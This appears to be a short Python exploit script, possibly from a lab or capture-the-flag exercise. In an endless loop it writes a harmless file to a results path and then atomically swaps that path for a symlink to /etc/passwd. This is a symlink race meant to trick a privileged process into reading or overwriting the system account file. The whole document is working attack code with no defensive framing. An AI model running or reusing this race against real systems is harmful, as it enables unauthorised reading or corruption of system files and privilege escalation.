import os

while True:
    with open("/resultats/vrai", "w") as file:
        file.write("{}")
    os.replace("/resultats/vrai", "/resultats/sortie.json")
    os.symlink("/etc/passwd", "/resultats/lien")
    os.replace("/resultats/lien", "/resultats/sortie.json")
